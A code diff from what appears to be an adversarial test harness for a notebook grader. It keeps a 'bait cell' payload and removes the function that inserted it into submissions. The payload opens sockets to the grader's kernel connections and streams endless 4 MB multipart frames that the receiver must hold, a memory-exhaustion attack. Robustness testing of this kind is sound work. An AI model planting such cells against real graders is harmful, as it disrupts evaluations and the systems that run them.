@@ -1,7 +1,6 @@
-"""Speaks to the grader's end of its own connections directly: a message of the kernel's protocol with parts
-without end, which the receiver has to keep until the last one comes."""
+"""Sends the grader a message of the kernel's protocol with parts without end, all of which it has to keep."""
 
-CODE = r"""
+BAIT_CELL = r"""
 import os, socket, struct
 
 frame = bytes([3]) + struct.pack(">Q", 4 << 20) + bytes(4 << 20)  # another part follows
@@ -24,7 +23,3 @@ for link in links:
     except OSError as error:
         pass
 """
-
-
-def attack(submission):
-    submission.add(submission.bait.cell(CODE))
